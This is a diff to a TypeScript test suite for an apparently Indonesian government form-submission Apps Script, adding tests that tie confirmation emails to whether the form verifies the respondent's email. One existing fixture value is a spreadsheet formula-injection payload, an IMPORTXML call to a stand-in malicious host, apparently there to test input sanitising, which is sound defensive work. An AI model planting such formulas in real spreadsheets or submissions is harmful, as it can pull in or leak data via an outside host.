@@ -129,6 +129,7 @@ describe("Code.gs against the real functions", () => {
       responseId: "2_ABaOnudk3Lrm",
       timestamp: "2026-11-27T03:15:00.000Z",
       respondentEmail: "pengusul@gmail.com",
+      emailCollection: "VERIFIED",
       items: [
         { title: "Nama inovasi", response: "=IMPORTXML(\"http://jahat.example\";\"//a\") — Layanan “Ceria”" },
         { title: "Unit kerja", response: "Dinas Kesehatan P2KB" },
@@ -144,6 +145,32 @@ describe("Code.gs against the real functions", () => {
     expect(record.evidenceLinks).toEqual(["https://probolinggokota.go.id/a", "https://probolinggokota.go.id/b"]);
     // Answered once stored: the two emails wait in the outbox for mailQueued.
     expect((await database.db.collection(MAIL_OUTBOX_COLLECTION).get()).size).toBe(2);
+  });
+
+  it.each([
+    { emailCollection: "VERIFIED" as const, verified: true, outbox: 2 },
+    { emailCollection: "RESPONDER_INPUT" as const, verified: false, outbox: 1 },
+    { emailCollection: undefined, verified: false, outbox: 1 },
+  ])("a form whose email setting is $emailCollection sends respondentEmailVerified $verified; a gmail address gets a confirmation only when verified", async ({ emailCollection, verified, outbox }) => {
+    const form: FormResponseData = {
+      formId: "1FAIpQLSf_formulir-usulan",
+      responseId: `2_verifikasi_${String(emailCollection)}`,
+      timestamp: "2026-11-27T03:15:00.000Z",
+      respondentEmail: "siapa.saja@gmail.com",
+      ...(emailCollection ? { emailCollection } : {}),
+      items: [
+        { title: "Nama inovasi", response: "Posyandu keliling" },
+        { title: "Unit kerja", response: "Dinas Kesehatan P2KB" },
+        { title: "Jenis inovasi", response: "Non-digital" },
+        { title: "Bentuk inovasi", response: "Inovasi pelayanan publik" },
+      ],
+    };
+    const run = await runAppsScript(settings(), [{ fn: "labinovOnFormSubmit", form }]);
+    expect(run.fetches.map((seen) => seen.status)).toEqual([200]);
+    expect(JSON.parse(run.fetches[0]!.body)).toMatchObject({ respondentEmail: "siapa.saja@gmail.com", respondentEmailVerified: verified });
+    const id = innovationIdForResponse(form.formId, form.responseId);
+    const entries = (await database.db.collection(MAIL_OUTBOX_COLLECTION).get()).docs.filter((doc) => doc.id.startsWith(id));
+    expect(entries).toHaveLength(outbox);
   });
 
   it("when the server fails, edits keep one pending notice per spreadsheet and the retry timer delivers it", async () => {
